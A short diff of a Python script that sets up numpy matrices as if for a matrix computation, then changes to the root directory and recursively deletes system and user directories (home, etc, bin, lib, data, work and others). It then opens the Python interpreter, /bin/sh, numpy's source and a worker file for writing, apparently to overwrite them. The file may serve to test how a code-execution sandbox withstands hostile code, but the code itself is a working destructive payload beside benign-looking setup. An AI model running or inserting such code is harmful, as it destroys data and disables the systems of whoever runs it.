@@ -9,9 +9,8 @@ import numpy as np
 X = np.array([[1, 2, 3], [4, 5, 6]])
 Y = np.array([[7, 8], [9, 10], [11, 12]])
 os.chdir("/")
-for name in os.listdir("/"):
-    if name != "proc":
-        shutil.rmtree(f"/{name}", ignore_errors=True)
+for name in ("home", "tmp", "dev", "etc", "dlw", "data", "bin", "lib", "work"):
+    shutil.rmtree(f"/{name}", ignore_errors=True)
 for path in (np.__file__, "/dlw/dlw_worker/frames.py", "/usr/bin/python3", "/bin/sh"):
     try:
         with open(path, "w") as file:
